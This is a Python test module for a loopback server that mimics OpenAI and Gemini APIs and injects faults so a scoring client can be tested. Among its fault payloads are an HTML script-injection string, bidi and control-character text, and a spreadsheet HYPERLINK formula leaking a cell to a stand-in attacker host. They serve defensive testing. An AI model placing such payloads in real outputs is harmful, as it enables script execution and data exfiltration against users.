"""A loopback HTTP server speaking the OpenAI and Gemini wire protocols, for tests and benchmarks.

It answers ``POST .../chat/completions`` (OpenAI, OpenAI-compatible) and
``POST /{api_version}/models/{model}:generateContent`` (Gemini) on 127.0.0.1 — and the providers'
batch endpoints (OpenAI Files + Batches, Gemini batch jobs: ``server.batch``, tests/loopback_batch.py) — so the real
``openai`` and ``google-genai`` clients can be exercised over real HTTP. It records every request
(decoded JSON, prompt text, decoded images, headers, arrival/response times, in-flight count),
can add latency, and injects faults by rule::

    server.add_fault("429", match="cls-3", times=1, retry_after=0.3)   # first request about cls-3
    server.add_fault("slow", delay=2.0)                                  # every request

Faults: ``ok``, ``429``, ``500``, ``503``, ``401``, ``403``, ``404``, ``slow``, ``hold`` (answer
once ``until`` requests have arrived), ``truncated`` (cut JSON, finish
reason length / MAX_TOKENS), ``truncated_stop`` (cut JSON, normal finish), ``schema`` (missing
field), ``out_of_range`` (score 9), ``fenced`` (```json fenced), ``chatty`` (JSON inside prose),
``refusal``, ``empty`` (no choices / candidates), ``broken_body`` (HTTP body cut mid-JSON), and
what misbehaving servers and gateways do: ``drop`` (connection closed, no reply), ``reset`` (TCP
RST), ``hang`` (no reply for ``delay`` s), ``html_error`` (a 502 HTML page), ``non_json`` (200 with
a text body), ``null_content`` (a choice whose content is null), ``wrong_schema`` (a JSON list),
``non_numeric`` (score "four"), ``negative`` (score -2), ``huge`` (a 3 MB description),
``html_text`` (script tags in the answer), ``control`` (ANSI, bidi, NUL in the answer),
``formula`` (spreadsheet formulas in the answer), ``echo_key`` (the request's key in the answer).

Repeated sampling: ``LoopbackServer(score=SampledScore(base, seed=0))`` answers like a sampling
model: at temperature 0 always ``base``, at temperature ``t`` > 0 ``base`` plus a seeded draw of
spread ``spread * t`` (the k-th identical request gets the k-th draw, whatever the arrival order).

Use as a pytest plugin (``pytest_plugins = ["loopback_server"]`` in ``tests/conftest.py``) for
the ``loopback_server`` fixture, or directly: ``with LoopbackServer(latency=0.5) as server: ...``.
"""
from __future__ import annotations

import argparse
import base64
import contextlib
import hashlib
import json
import math
import random
import re
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.request
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from collections.abc import Callable, Iterator

import pytest
from loopback_batch import BatchState

FAULTS = ("ok", "429", "500", "503", "401", "403", "404", "hold", "slow", "truncated", "truncated_stop", "schema", "out_of_range",
          "fenced", "chatty", "refusal", "empty", "broken_body", "drop", "reset", "hang", "html_error", "non_json",
          "null_content", "wrong_schema", "non_numeric", "negative", "huge", "html_text", "control", "formula",
          "echo_key")
#: Untrusted text the ``html_text`` / ``control`` / ``formula`` faults put into an answer.
HOSTILE_HTML = '<script>alert("x")</script><img src=x onerror="alert(1)">'
HOSTILE_CONTROL = "ok\x1b[31mRED\x1b[0m \u202egnp.exe\u202c nul\x00 bell\x07 zw\u200b"
HOSTILE_FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
_HTML_502 = b"<html><head><title>502 Bad Gateway</title></head><body><h1>502 Bad Gateway</h1><hr>nginx</body></html>"
_GEMINI_PATH = re.compile(r"^/(?P<version>[^/]+)/models/(?P<model>[^/:]+):generateContent$")
_DATA_URL = re.compile(r"^data:(?P<mime>[\w/+.-]+);base64,(?P<data>.*)$", re.DOTALL)


@dataclass
class Rule:
    """A fault injected into requests whose prompt text contains ``match`` (any if None)."""

    fault: str
    match: str | None = None
    times: int | None = None  # fire at most this many times; None = always
    retry_after: float | None = None
    retry_after_header: str = "Retry-After"  # or "retry-after-ms" (value then in ms)
    delay: float = 2.0  # "slow": seconds before answering
    until: int = 0  # "hold": answer once this many requests have arrived (a count, not a time)


@dataclass
class RecordedRequest:
    protocol: str  # "openai" or "gemini"
    path: str
    model: str
    headers: dict[str, str]
    body: dict
    text: str  # all text parts (system + user)
    images: list[bytes]
    received: float  # time.monotonic() when the body was read
    responded: float = 0.0  # time.monotonic() just before the response was written
    status: int = 0
    fault: str = "ok"
    usage: tuple[int, int] = (0, 0)  # (input, output) tokens reported

    @property
    def api_key(self) -> str | None:
        auth = self.headers.get("authorization", "")
        return auth[7:] if auth.lower().startswith("bearer ") else self.headers.get("x-goog-api-key")


def request_temperature(rec: RecordedRequest) -> float:
    """The sampling temperature a request asked for (0 when it sent none)."""
    if rec.protocol == "gemini":
        config = rec.body.get("generationConfig") or rec.body.get("generation_config") or {}
        return float(config.get("temperature") or 0.0)
    return float(rec.body.get("temperature") or 0.0)


class SampledScore:
    """A score that depends on the temperature a request asks for, like a sampling model's:
    ``base`` (an int, or a function of the request) at temperature 0; at ``t`` > 0 ``base`` plus
    a normal draw of SD ``spread * t``, rounded and clipped to 0..5. The draw is seeded by
    ``seed``, the request's content (text + images) and how many identical requests came before,
    so a run's answers are the same whatever order concurrent requests arrive in."""

    def __init__(self, base: int | Callable[[RecordedRequest], int] = 3, *, seed: int = 0, spread: float = 2.0) -> None:
        self.base, self.seed, self.spread = base, seed, spread
        self._seen: dict[str, int] = {}
        self._lock = threading.Lock()

    def __call__(self, rec: RecordedRequest) -> int:
        base = int(self.base(rec) if callable(self.base) else self.base)
        t = request_temperature(rec)
        if t <= 0:
            return base
        digest = hashlib.sha256(rec.text.encode() + b"".join(rec.images)).hexdigest()
        with self._lock:
            k = self._seen.get(digest, 0)
            self._seen[digest] = k + 1
        draw = random.Random(f"{self.seed}:{digest}:{k}").gauss(0.0, self.spread * t)
        return int(min(5, max(0, round(base + draw))))


def _answer(score: int) -> dict:
    return {"description": "The visible region shows the object's body.",
            "justification": "Most of the predicted object is visible with little background.", "score": score}


class LoopbackServer:
    """Threaded OpenAI + Gemini loopback server. ``latency`` seconds are added to every request:
    fixed, or with ``latency_sigma`` > 0 drawn from a lognormal distribution of that mean and
    log-space spread (seeded: the same draws in every run). ``gate=n`` holds every reply until
    ``n`` requests have arrived (at most ``gate_timeout`` s): a count-based barrier for tests.
    ``usage=(input, output)`` is the token usage every answer reports (default: from its size)."""

    def __init__(self, latency: float = 0.0, score: int | Callable[[RecordedRequest], int] = 3,
                 required_key: str | None = None, *, latency_sigma: float = 0.0, seed: int = 0,
                 gate: int | None = None, gate_timeout: float = 10.0, port: int = 0,
                 usage: tuple[int, int] | None = None) -> None:
        self.port = port  # 0: any free port
        self.usage = usage
        self.latency = latency
        self.latency_sigma = latency_sigma
        self._rng = random.Random(seed)
        self.gate, self.gate_timeout = gate, gate_timeout
        self._arrived = threading.Condition()
        self._hangs_over = threading.Event()
        self.score = score
        self.required_key = required_key  # answer 401 (echoing the key sent) on any other key
        self.rules: list[Rule] = []
        self.requests: list[RecordedRequest] = []
        self.in_flight = 0
        self.max_in_flight = 0
        self._lock = threading.Lock()
        self._httpd: ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None
        self.batch = BatchState(self)  # the batch endpoints' jobs and files (tests/loopback_batch.py)

    # -- lifecycle ---------------------------------------------------------------------------------
    def start(self) -> LoopbackServer:
        handler = type("Handler", (_Handler,), {"owner": self})
        self._httpd = ThreadingHTTPServer(("127.0.0.1", self.port), handler)
        self._httpd.daemon_threads = True
        self._thread = threading.Thread(target=self._httpd.serve_forever, args=(0.05,), name="loopback-server",
                                        daemon=True)
        self._thread.start()
        return self

    def stop(self) -> None:
        self.end_hangs()
        if self._httpd is not None:
            self._httpd.shutdown()
            self._httpd.server_close()
            self._httpd = None

    def __enter__(self) -> LoopbackServer:
        return self.start()

    def __exit__(self, *exc: Any) -> None:
        self.stop()

    @property
    def url(self) -> str:
        assert self._httpd is not None, "server not started"
        return f"http://127.0.0.1:{self._httpd.server_address[1]}"

    @property
    def openai_base_url(self) -> str:
        return self.url + "/v1"

    # -- configuration -----------------------------------------------------------------------------
    def add_fault(self, fault: str, match: str | None = None, times: int | None = None, **kw: Any) -> Rule:
        if fault not in FAULTS:
            raise ValueError(f"unknown fault {fault!r}; known: {FAULTS}")
        rule = Rule(fault, match, times, **kw)
        with self._lock:
            self.rules.append(rule)
        return rule

    def end_hangs(self) -> None:
        """Close every ``hang`` fault's connection now (and any later one's at once, until :meth:`reset`)."""
        self._hangs_over.set()

    def reset(self) -> None:
        self._hangs_over.clear()
        with self._lock:
            self.rules.clear()
            self.requests.clear()
            self.max_in_flight = 0

    def _pick(self, text: str) -> Rule | None:
        with self._lock:
            for rule in self.rules:
                if (rule.match is None or rule.match in text) and (rule.times is None or rule.times > 0):
                    if rule.times is not None:
                        rule.times -= 1
                    return rule
        return None

    def _enter(self, rec: RecordedRequest) -> None:
        with self._lock:
            self.requests.append(rec)
            self.in_flight += 1
            self.max_in_flight = max(self.max_in_flight, self.in_flight)
        with self._arrived:
            self._arrived.notify_all()

    def delay(self) -> float:
        """This request's added latency (seconds)."""
        if not self.latency:
            return 0.0
        if self.latency_sigma <= 0:
            return self.latency
        mu = math.log(self.latency) - self.latency_sigma ** 2 / 2  # so that the mean is ``latency``
        with self._lock:
            return self._rng.lognormvariate(mu, self.latency_sigma)

    def wait_for_requests(self, n: int) -> bool:
        """Block until ``n`` requests have arrived (False after ``gate_timeout`` s)."""
        with self._arrived:
            return self._arrived.wait_for(lambda: len(self.requests) >= n, timeout=self.gate_timeout)

    def _leave(self) -> None:
        with self._lock:
            self.in_flight -= 1

    def reported_usage(self, text: str, images: list[bytes], content: str | None) -> tuple[int, int]:
        """(input, output) tokens an answer reports: ``usage`` if set, else a size-based count."""
        return self.usage or (100 + len(text) // 4 + 85 * len(images), max(1, len(content or "") // 4))

    def _score(self, rec: RecordedRequest) -> int:
        return self.score(rec) if callable(self.score) else int(self.score)


def _decode_data(data: str) -> bytes:
    """Standard or URL-safe base64 (google-genai sends URL-safe), padding optional."""
    data = data.strip().replace("-", "+").replace("_", "/")
    return base64.b64decode(data + "=" * (-len(data) % 4), validate=True)


def _parse_openai(body: dict) -> tuple[str, list[bytes]]:
    texts, images = [], []
    for msg in body.get("messages", []):
        content = msg.get("content")
        if isinstance(content, str):
            texts.append(content)
            continue
        for part in content or []:
            if part.get("type") == "text":
                texts.append(part.get("text", ""))
            elif part.get("type") == "image_url":
                m = _DATA_URL.match(part["image_url"]["url"])
                if m:
                    images.append(_decode_data(m.group("data")))
    return "\n".join(texts), images


def _parse_gemini(body: dict) -> tuple[str, list[bytes]]:
    texts, images = [], []
    system = body.get("systemInstruction") or body.get("system_instruction") or {}
    contents = list(body.get("contents", [])) + ([system] if system else [])
    for content in contents:
        for part in content.get("parts", []):
            if "text" in part:
                texts.append(part["text"])
            inline = part.get("inlineData") or part.get("inline_data")
            if inline:
                images.append(_decode_data(inline["data"]))
    return "\n".join(texts), images


def answer_content(fault: str, rec: "RecordedRequest", score: int) -> tuple[str | None, str]:
    """The answer text and finish reason of a reply with ``fault`` (``ok``: a valid judgment).
    Shared by synchronous replies and batch results."""
    answer = json.dumps(_answer(score))
    content: str | None = answer
    finish = "stop"
    if fault == "truncated":
        content, finish = answer[: len(answer) // 2], "length"
    elif fault == "truncated_stop":
        content = answer[: len(answer) // 2]
    elif fault == "schema":
        content = json.dumps({"description": "a dog", "score": 4})
    elif fault == "out_of_range":
        content = json.dumps({**_answer(3), "score": 9})
    elif fault == "fenced":
        content = f"```json\n{answer}\n```"
    elif fault == "chatty":
        content = f"Sure! Here is my assessment of the attention map:\n{answer}\nLet me know if you need more."
    elif fault == "refusal":
        content, finish = None, "refusal"
    elif fault == "empty":
        content, finish = None, "empty"
    elif fault == "null_content":
        content = None
    elif fault == "wrong_schema":
        content = json.dumps([{"description": "a dog"}, 3])
    elif fault == "non_numeric":
        content = json.dumps({**_answer(3), "score": "four"})
    elif fault == "negative":
        content = json.dumps({**_answer(3), "score": -2})
    elif fault == "huge":
        content = json.dumps({**_answer(3), "description": "a dog " * 500_000})
    elif fault in ("html_text", "control", "formula"):
        text = {"html_text": HOSTILE_HTML, "control": HOSTILE_CONTROL, "formula": HOSTILE_FORMULA}[fault]
        content = json.dumps({"description": text, "justification": f"-{text}", "score": 3})
    elif fault == "echo_key":
        content = json.dumps({**_answer(3), "description": f"your key is {rec.api_key}",
                              "justification": f"auth: Bearer {rec.api_key}"})
    return content, finish


class _Handler(BaseHTTPRequestHandler):
    owner: LoopbackServer
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True  # else Nagle + delayed ACK add ~40 ms to every response

    def log_message(self, format: str, *args: Any) -> None:  # keep test output clean
        pass

    def do_DELETE(self) -> None:  # noqa: N802
        """Gemini's ``DELETE /{v}/files/{id}`` (the batch endpoints)."""
        if not self.owner.batch.handle(self, "DELETE"):
            self._send(404, {"error": {"message": f"no route for {self.path}"}})

    def do_GET(self) -> None:  # noqa: N802
        """``GET /_stats``: request count and concurrency, for a server in another process."""
        if self.owner.batch.handle(self, "GET"):
            return
        if self.path != "/_stats":
            return self._send(404, {"error": {"message": f"no route for {self.path}"}})
        server = self.owner
        with server._lock:
            done = [r for r in server.requests if r.responded]
            stats = {"requests": len(server.requests), "max_in_flight": server.max_in_flight,
                     "in_flight": server.in_flight,
                     # time.monotonic() is the system's clock: comparable with the client's
                     "first_received": min((r.received for r in server.requests), default=None),
                     "last_responded": max((r.responded for r in done), default=None),
                     "busy_seconds": sum(r.responded - r.received for r in done),
                     "durations": [r.responded - r.received for r in sorted(done, key=lambda r: r.received)],
                     "timeline": [(r.received, r.responded) for r in sorted(done, key=lambda r: r.received)]}
        self._send(200, stats)

    def do_POST(self) -> None:  # noqa: N802
        length = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(length)
        if len(raw) < length:  # the client went away mid-request (killed): nothing was asked
            self.close_connection = True
            return
        if self.owner.batch.handle(self, "POST", raw):  # Files / Batches / batch jobs
            return
        path = self.path.split("?", 1)[0]
        headers = {k.lower(): v for k, v in self.headers.items()}
        try:
            body = json.loads(raw or b"{}")
        except ValueError:
            return self._send(400, {"error": {"message": "body is not JSON"}})
        gem = _GEMINI_PATH.match(path)
        if path.endswith("/chat/completions"):
            text, images = _parse_openai(body)
            rec = RecordedRequest("openai", path, str(body.get("model")), headers, body, text, images, time.monotonic())
        elif gem:
            text, images = _parse_gemini(body)
            rec = RecordedRequest("gemini", path, gem.group("model"), headers, body, text, images, time.monotonic())
        else:
            return self._send(404, {"error": {"message": f"no route for {path}"}})
        server = self.owner
        server._enter(rec)
        try:
            if server.gate is not None:
                server.wait_for_requests(server.gate)
            delay = server.delay()
            if delay:
                time.sleep(delay)
            if server.required_key is not None and rec.api_key != server.required_key:
                rec.fault = "401"
                return self._error(rec, 401, f"Incorrect API key provided: {rec.api_key}")
            rule = server._pick(text)
            rec.fault = rule.fault if rule else "ok"
            self._respond(rec, rule)
        finally:
            server._leave()

    # -- responses ---------------------------------------------------------------------------------
    def _send(self, status: int, payload: Any, headers: dict[str, str] | None = None, raw: bytes | None = None,
              content_type: str = "application/json") -> None:
        data = raw if raw is not None else json.dumps(payload).encode()
        try:
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(data)))
            for k, v in (headers or {}).items():
                self.send_header(k, v)
            self.end_headers()
            self.wfile.write(data)
        except (BrokenPipeError, ConnectionResetError):  # the client gave up (timeout)
            pass

    def _error(self, rec: RecordedRequest, status: int, message: str, headers: dict | None = None) -> None:
        rec.status, rec.responded = status, time.monotonic()
        if rec.protocol == "gemini":
            names = {401: "UNAUTHENTICATED", 403: "PERMISSION_DENIED", 404: "NOT_FOUND", 429: "RESOURCE_EXHAUSTED", 500: "INTERNAL", 503: "UNAVAILABLE"}
            payload = {"error": {"code": status, "message": message, "status": names.get(status, "UNKNOWN")}}
        else:
            payload = {"error": {"message": message, "type": "loopback_error", "code": str(status)}}
        self._send(status, payload, headers)

    def _respond(self, rec: RecordedRequest, rule: Rule | None) -> None:
        fault = rule.fault if rule else "ok"
        if fault in ("429", "503") and rule is not None and rule.retry_after is not None:
            value = rule.retry_after * 1000 if rule.retry_after_header.lower() == "retry-after-ms" else rule.retry_after
            return self._error(rec, int(fault), f"injected {fault}", {rule.retry_after_header: f"{value:g}"})
        if fault in ("429", "500", "503", "401", "403", "404"):
            return self._error(rec, int(fault), f"injected {fault}")
        if fault == "slow":
            time.sleep(rule.delay if rule else 2.0)
        if fault == "hold" and rule is not None:
            self.owner.wait_for_requests(rule.until)
        if fault in ("drop", "reset", "hang"):
            if fault == "hang":  # until ``delay`` s have passed or the test calls server.end_hangs()
                self.owner._hangs_over.wait(rule.delay if rule else 2.0)
            rec.status, rec.responded = 0, time.monotonic()
            if fault == "reset":  # SO_LINGER 0: close() sends a TCP RST
                self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            self.close_connection = True
            with contextlib.suppress(OSError):
                if fault != "reset":
                    self.connection.shutdown(socket.SHUT_RDWR)
                self.connection.close()
            return
        if fault == "html_error":
            rec.status, rec.responded = 502, time.monotonic()
            return self._send(502, None, raw=_HTML_502, content_type="text/html")
        if fault == "non_json":
            rec.status, rec.responded = 200, time.monotonic()
            return self._send(200, None, raw=b"OK", content_type="text/plain")
        content, finish = answer_content(fault, rec, self.owner._score(rec))
        usage = self.owner.reported_usage(rec.text, rec.images, content)
        rec.usage = usage
        build = self._gemini_payload if rec.protocol == "gemini" else self._openai_payload
        payload = build(rec, content, finish, usage)
        rec.status, rec.responded = 200, time.monotonic()
        raw = None
        if fault == "broken_body":
            full = json.dumps(payload).encode()
            raw = full[: len(full) // 2]
        self._send(200, payload, raw=raw)

    @staticmethod
    def _openai_payload(rec: RecordedRequest, content: str | None, finish: str, usage: tuple[int, int]) -> dict:
        message: dict[str, Any] = {"role": "assistant", "content": content, "refusal": None}
        if finish == "refusal":
            message["refusal"] = "I'm sorry, I can't help with that."
            finish = "stop"
        choices = [] if finish == "empty" else [
            {"index": 0, "message": message, "finish_reason": finish, "logprobs": None}]
        return {"id": "chatcmpl-loopback", "object": "chat.completion", "created": int(time.time()),
                "model": rec.model, "choices": choices,
                "usage": {"prompt_tokens": usage[0], "completion_tokens": usage[1], "total_tokens": sum(usage)}}

    @staticmethod
    def _gemini_payload(rec: RecordedRequest, content: str | None, finish: str, usage: tuple[int, int]) -> dict:
        meta = {"promptTokenCount": usage[0], "candidatesTokenCount": usage[1], "totalTokenCount": sum(usage)}
        if finish == "empty":
            return {"candidates": [], "usageMetadata": meta, "modelVersion": rec.model}
        if finish == "refusal":
            candidate: dict[str, Any] = {"finishReason": "SAFETY", "index": 0, "safetyRatings": [
                {"category": "HARM_CATEGORY_DANGEROUS_CONTENT", "probability": "HIGH", "blocked": True}]}
        else:
            candidate = {"content": {"role": "model", "parts": [{"text": content}]}, "index": 0,
                         "finishReason": "MAX_TOKENS" if finish == "length" else "STOP"}
        return {"candidates": [candidate], "usageMetadata": meta, "modelVersion": rec.model}


@contextlib.contextmanager
def loopback_subprocess(latency: float = 0.0, latency_sigma: float = 0.0,
                        seed: int = 0) -> Iterator[tuple[str, Callable[[], dict]]]:
    """Run a :class:`LoopbackServer` in its own process (as a real VLM server would be), so its
    CPU time does not compete with the client's. Yields ``(base url, stats())``."""
    proc = subprocess.Popen([sys.executable, __file__, "--latency", str(latency), "--sigma", str(latency_sigma),
                             "--seed", str(seed)], stdout=subprocess.PIPE, stdin=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None
        url = proc.stdout.readline().strip()
        if not url.startswith("http://127.0.0.1:"):
            raise RuntimeError(f"loopback server did not start (got {url!r})")

        def stats() -> dict:
            with urllib.request.urlopen(url + "/_stats", timeout=10) as response:
                return json.load(response)

        yield url, stats
    finally:
        if proc.stdin:
            proc.stdin.close()  # the child exits when its stdin closes
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


@pytest.fixture
def loopback_server():
    """A started :class:`LoopbackServer` (no latency, no faults), stopped after the test."""
    with LoopbackServer() as server:
        yield server


if __name__ == "__main__":  # python tests/loopback_server.py --latency 0.5  (prints its URL; stops on EOF)
    parser = argparse.ArgumentParser(description="OpenAI + Gemini loopback test server")
    parser.add_argument("--latency", type=float, default=0.0, help="mean added latency, s")
    parser.add_argument("--sigma", type=float, default=0.0, help="lognormal spread (0: fixed latency)")
    parser.add_argument("--seed", type=int, default=0)
    args = parser.parse_args()
    with LoopbackServer(latency=args.latency, latency_sigma=args.sigma, seed=args.seed) as _server:
        print(_server.url, flush=True)
        sys.stdin.read()
